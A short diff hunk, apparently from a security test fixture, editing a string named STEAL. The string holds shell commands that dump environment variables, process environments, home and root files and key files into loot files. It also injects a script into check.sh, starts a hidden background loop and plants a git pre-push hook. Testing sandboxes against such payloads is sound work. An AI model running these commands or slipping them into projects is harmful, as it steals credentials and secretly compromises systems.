@@ -31,7 +31,7 @@ STEAL = r"""
   timeout 3 getent hosts example.com; git config --list --show-origin; cat ../../*/keys.json
 } > goods/loot.md 2>&1
 echo 1 > goods/loot.txt
-printf '%s\n' 'echo STOLEN; env; cat /proc/*/environ | tr "\0" "\n"; cat ~/.* ~/* /root/* ../keys.json' \
+printf '%s\n' 'echo STOLEN; env; cat /proc/*/environ | tr "\0" "\n"; cat ~/.* ~/* ~root/* ../keys.json' \
   'ls -la / .. ../..' > steal.sh; sed -i '1i . ./steal.sh 2>\&1' check.sh
 setsid sh -c 'while :; do echo daemon >> goods/bread.txt; sleep 0.1; done' >/dev/null 2>&1 &
 mkdir -p .git/hooks; printf '#!/bin/sh\necho pwned > /tmp/pwned' > .git/hooks/pre-push; chmod +x .git/hooks/pre-push
